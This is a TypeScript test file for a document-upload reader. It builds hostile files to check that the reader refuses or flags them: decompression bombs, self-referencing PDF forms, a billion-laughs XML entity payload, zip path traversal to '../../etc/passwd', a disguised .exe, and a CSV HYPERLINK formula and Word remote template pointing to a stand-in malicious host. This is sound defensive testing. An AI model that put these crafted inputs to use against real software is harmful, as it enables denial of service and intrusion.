import { deflateSync } from 'node:zlib';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { describe, expect, it } from 'vitest';
import { qrSquares } from '../../src/papers/make/qr-code.ts';
import { pngOf } from '../../src/papers/png.ts';
import { readPapers, type PaperFile } from '../../src/papers/read-papers.ts';
import type { PaperReading } from '../../src/parse/document.ts';
import { DEFAULT_LIMITS } from '../../src/parse/limits.ts';
import { sniffType } from '../../src/parse/sniff.ts';

const MIB = 1024 * 1024;

const read = async (filename: string, bytes: Uint8Array): Promise<readonly PaperReading[]> => {
  const buffer = Buffer.from(bytes);
  const file: PaperFile = { filename, sha256: 'ab', type: await sniffType(buffer), bytes: buffer };
  return readPapers([file], DEFAULT_LIMITS);
};
const texts = (readings: readonly PaperReading[]): readonly string[] =>
  readings.flatMap(({ problems }) => problems.map(({ text }) => text));

/** A PDF of given objects, the first being the catalogue. */
const pdfOf = (objects: readonly (string | Buffer)[]): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    const part = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]);
    offsets.push(length);
    parts.push(part);
    length += part.length;
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Root 1 0 R /Size ${size} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
};
const streamOf = (head: string, bytes: Buffer): Buffer =>
  Buffer.concat([Buffer.from(`<< ${head} /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
const PAGE = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
];

const SHEET = 'xl/worksheets/sheet1.xml';
const workbook = (rows: string, more: Zippable = {}): Uint8Array =>
  zipSync({
    'xl/workbook.xml': strToU8(
      '<workbook xmlns:r="x"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    [SHEET]: strToU8(`<worksheet><sheetData>${rows}</sheetData></worksheet>`),
    ...more,
  });
const cell = (at: string, text: string): string => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;
const HEADER = `<row r="1">${cell('A1', 'Nama')}${cell('B1', 'NIP')}</row>`;
const document = (body: string, more: Zippable = {}): Uint8Array =>
  zipSync({ 'word/document.xml': strToU8(`<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`), ...more });

describe('a PDF that would cost too much', () => {
  it('is left closed where a stream unfolds a thousandfold', async () => {
    const bomb = deflateSync(Buffer.alloc(60 * MIB, 0x20));

    expect(texts(await read('a.pdf', pdfOf([...PAGE, streamOf('/Filter /FlateDecode', bomb)])))).toEqual([
      'Isi berkas ini jauh lebih besar daripada ukurannya, sehingga tidak dibuka.',
    ]);
  });

  it('is left closed where it is packed twice', async () => {
    const bomb = deflateSync(deflateSync(Buffer.alloc(8 * MIB, 0x20)));

    expect(texts(await read('a.pdf', pdfOf([...PAGE, streamOf('/Filter [/FlateDecode /FlateDecode]', bomb)])))).toEqual(
      ['Isi berkas ini jauh lebih besar daripada ukurannya, sehingga tidak dibuka.'],
    );
  });

  it('is read within its time with 100,000 objects', async () => {
    const objects = [...PAGE, streamOf('', Buffer.from('')), ...Array.from({ length: 100_000 }, () => '<< /A 1 >>')];
    const began = performance.now();
    const [reading] = await read('a.pdf', pdfOf(objects));

    expect(['other', 'unreadable']).toContain(reading?.type);
    expect(performance.now() - began).toBeLessThan(20_000);
  }, 40_000);

  it('is read where its outline is thousands deep, its arrays bite their tail, its fields have themselves as parents', async () => {
    const outline = Array.from(
      { length: 5000 },
      (_, index) => `<< /Title (a) /First ${index + 7} 0 R /Parent ${index + 5} 0 R >>`,
    );
    const deep = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>',
      ...PAGE.slice(1),
      streamOf('', Buffer.from('')),
      ...outline,
    ]);
    const loop = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>',
      ...PAGE.slice(1),
      streamOf('', Buffer.from('')),
      '<< /T (a) /Kids [5 0 R 6 0 R] >>',
      '<< /T (b) /Parent 5 0 R /Kids [5 0 R] >>',
    ]);

    for (const bytes of [deep, loop]) expect((await read('a.pdf', bytes)).map(({ type }) => type)).toEqual(['other']);
  });

  it('is broken where its arrays are nested without end', async () => {
    const nested = pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /X ${'['.repeat(200_000)} >>`,
      ...PAGE.slice(1),
      streamOf('', Buffer.from('')),
    ]);

    expect((await read('a.pdf', nested)).map(({ type }) => type)).toEqual(['unreadable']);
  });

  it('keeps no picture that claims to be a wall', async () => {
    const image = streamOf(
      '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode',
      deflateSync(Buffer.alloc(1000)),
    );
    const page =
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>';
    const bytes = pdfOf([...PAGE.slice(0, 2), page, streamOf('', Buffer.from('q 500 0 0 500 0 0 cm /I Do Q')), image]);

    expect((await read('a.pdf', bytes)).map(({ type }) => type)).toEqual(['other']);
  });
});

describe('a spreadsheet that would cost too much', () => {
  it('is read no further than its rows may be many', async () => {
    const rows = Array.from(
      { length: 6000 },
      (_, index) => `<row r="${index + 2}">${cell(`A${index + 2}`, 'x')}</row>`,
    ).join('');

    expect(texts(await read('a.xlsx', workbook(HEADER + rows)))).toEqual([
      'Daftar ini lebih dari 5000 baris dan tidak dibaca.',
    ]);
  });

  it('ends at the first row too many of a million', async () => {
    const rows = '<row><c t="inlineStr"><is><t>x</t></is></c></row>'.repeat(1_000_000);
    const bytes = workbook(HEADER + rows);
    const began = performance.now();

    expect(texts(await read('a.xlsx', bytes))).toEqual(['Daftar ini lebih dari 5000 baris dan tidak dibaca.']);
    expect(performance.now() - began).toBeLessThan(20_000);
  }, 60_000);

  it('takes a row at the far end of the sheet for what it is', async () => {
    const far = `<row r="1048576">${cell('A1048576', 'Sari')}${cell('B1048576', '199001012015032001')}</row>`;

    expect(await read('a.xlsx', workbook(HEADER + far))).toMatchObject([
      { fields: { jumlah: '1' }, problems: [], rows: [{ row: 1_048_576 }] },
    ]);
  });

  it('expands no entities', async () => {
    const lol = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>';
    const sheet = strToU8(
      `${lol}<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>`,
    );

    expect((await read('a.xlsx', workbook('', { [SHEET]: sheet })))[0]?.text ?? '').not.toContain('lol');
  });

  it('computes no formula and follows no link, but names both', async () => {
    const row = `<row r="2">${cell('A2', 'Sari')}<c r="B2" t="str"><f>1+1</f><v>199001012015032001</v></c></row>`;
    const links: Zippable = {
      'xl/externalLinks/externalLink1.xml': strToU8('<x/>'),
      'xl/vbaProject.bin': strToU8('x'),
    };

    expect(await read('a.xlsx', workbook(HEADER + row, links))).toMatchObject([
      {
        type: 'daftar-akun',
        warnings: ['external-link', 'formula', 'macro'],
        rows: [{ values: { nip: '199001012015032001' } }],
      },
    ]);
  });

  it('of CSV is read as text, formulas named', async () => {
    const csv = Buffer.from('Nama;NIP\n=HYPERLINK("http://jahat.example";"Sari");199001012015032001\n');

    expect(await read('a.csv', csv)).toMatchObject([{ type: 'daftar-akun', warnings: ['formula'] }]);
  });
});

describe('a Word document', () => {
  it('with parts that lie elsewhere, macros and objects is read, and they are named', async () => {
    const bytes = document('<w:p><w:r><w:t>NOTA DINAS</w:t></w:r></w:p>', {
      'word/_rels/settings.xml.rels': strToU8(
        '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="http://jahat.example/a.dotm" TargetMode="External"/></Relationships>',
      ),
      'word/vbaProject.bin': strToU8('x'),
      'word/embeddings/oleObject1.bin': strToU8('x'),
    });

    expect(await read('a.docx', bytes)).toMatchObject([
      { type: 'surat', warnings: ['embedded-file', 'external-link', 'macro'] },
    ]);
  });

  it('nested without end ends at a depth', async () => {
    expect(await read('a.docx', document('<w:p>'.repeat(100_000)))).toMatchObject([{ type: 'other', text: '' }]);
  });

  it('of endless text is read so far', async () => {
    const body = '<w:p><w:r><w:t>kata kata kata kata</w:t></w:r></w:p>'.repeat(200_000);
    const [reading] = await read('a.docx', document(body));

    expect(reading?.text.length).toBeLessThanOrEqual(20_000);
  });
});

describe('an archive', () => {
  it.each([
    [
      'holds too many files',
      Object.fromEntries(Array.from({ length: 60 }, (_, index) => [`${index}.txt`, strToU8('x')])),
      'Arsip ini berisi lebih dari 50 berkas.',
    ],
    [
      'unfolds to too much',
      Object.fromEntries(Array.from({ length: 5 }, (_, index) => [`${index}.csv`, new Uint8Array(14 * MIB)])),
      'Isi arsip ini lebih besar dari 60 MB.',
    ],
  ])('that %s stays closed', async (_why, files, text) => {
    expect(texts(await read('a.zip', zipSync(files)))).toEqual([text]);
  });

  it('whose entry is longer than it says ends there', async () => {
    const zip = Buffer.from(zipSync({ 'a.csv': strToU8('Nama;NIP\n'.repeat(10_000)) }));
    const at = zip.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1'));
    zip.writeUInt32LE(50, at + 24);

    expect(texts(await read('a.zip', zip))).toEqual(['a.csv: berkas di dalam arsip ini tidak dapat dibuka.']);
  });

  it('with a program in it says so', async () => {
    expect(await read('a.zip', zipSync({ 'tagihan.pdf.exe': strToU8('MZ') }))).toMatchObject([
      { type: 'other', warnings: ['embedded-file'], text: 'tagihan.pdf.exe' },
    ]);
  });

  it('whose names climb out of it is broken', async () => {
    expect(texts(await read('a.zip', zipSync({ '../../etc/passwd': strToU8('x') })))).toEqual([
      'Berkas ini rusak dan tidak dapat dibuka.',
    ]);
  });

  it('of half its bytes is broken', async () => {
    const half = zipSync({ 'a.csv': strToU8('x'.repeat(1000)) }, { level: 0 }).subarray(0, 500);

    expect(texts(await read('a.zip', half))).toEqual(['Berkas ini rusak dan tidak dapat dibuka.']);
  });
});

describe('a picture', () => {
  it('that claims to be a wall is not unfolded', async () => {
    const png = Buffer.alloc(64);
    Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1').copy(png);
    png.writeUInt32BE(100_000, 16);
    png.writeUInt32BE(100_000, 20);

    expect(texts(await read('foto.png', png))).toEqual(['Gambar ini terlalu besar untuk dibaca.']);
  });

  it('that is broken is no paper', async () => {
    expect(await read('foto.jpg', Buffer.from('ffd8ffe000104a464946000101', 'hex'))).toEqual([]);
  });
});

describe('an office file with a password', () => {
  it('is asked for again', async () => {
    const ole = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600),
      Buffer.from('EncryptedPackage', 'utf16le'),
      Buffer.alloc(500),
    ]);

    expect(texts(await read('daftar.xlsx', ole))).toEqual([
      'Berkas ini terkunci dengan kata sandi. Mohon kirim kembali tanpa kata sandi.',
    ]);
  });
});

describe('drawings within drawings', () => {
  const form = (child: number | null, times: number): Buffer => {
    const resources = child === null ? '' : `/Resources << /XObject << /X ${child} 0 R >> >>`;
    return streamOf(`/Type /XObject /Subtype /Form /BBox [0 0 9 9] ${resources}`, Buffer.from('/X Do '.repeat(times)));
  };
  const page = (levels: readonly Buffer[]): Buffer =>
    pdfOf([
      ...PAGE.slice(0, 2),
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
      streamOf('', Buffer.from('/X Do')),
      ...levels,
    ]);
  const levels = (count: number, times: number): readonly Buffer[] =>
    Array.from({ length: count }, (_, at) => form(at === count - 1 ? null : 6 + at, times));

  it.each([
    ['each of fourteen levels draws the next four times', levels(14, 4)],
    ['one draws itself', [form(5, 1)]],
    ['two draw each other', [form(6, 1), form(5, 1)]],
  ])('that would never end are not opened: %s', async (_name, drawings) => {
    const began = performance.now();

    expect(texts(await read('surat.pdf', page(drawings)))).toEqual([
      'Isi berkas ini jauh lebih besar daripada ukurannya, sehingga tidak dibuka.',
    ]);
    expect(performance.now() - began).toBeLessThan(20_000);
  });

  it('that come to an end are a paper as any other', async () => {
    expect(texts(await read('surat.pdf', page(levels(4, 5))))).toEqual([]);
  });
});

describe('a picture that unfolds to more than a process may take', () => {
  /** A code in the corner of a white picture. */
  const withCode = (side: number): Buffer => {
    const gray = new Uint8Array(side * side).fill(255);
    const dots = 12;
    for (const { x, y, length } of qrSquares('SR-261123-0042-7').runs)
      for (let row = 0; row < dots; row += 1) {
        const start = (100 + y * dots + row) * side + 100 + x * dots;
        gray.fill(0, start, start + length * dots);
      }
    return Buffer.from(pngOf({ width: side, height: side, gray }));
  };

  it('counts by its name, and no code is looked for in it', async () => {
    expect(await read('Surat rekomendasi.png', withCode(1200))).toMatchObject([{ codes: ['SR-261123-0042-7'] }]);
    const [paper] = await read('Surat rekomendasi.png', withCode(3600));

    expect(paper).toMatchObject({ type: 'other', claim: 'surat', scan: { confidence: null } });
    expect(paper?.codes).toBeUndefined();
  });

  it('is not even that where it is larger than any camera makes', async () => {
    const png = withCode(600);
    png.writeUInt32BE(60_000, 16);
    png.writeUInt32BE(60_000, 20);

    expect(texts(await read('Surat rekomendasi.png', png))).toEqual(['Gambar ini terlalu besar untuk dibaca.']);
  });
});
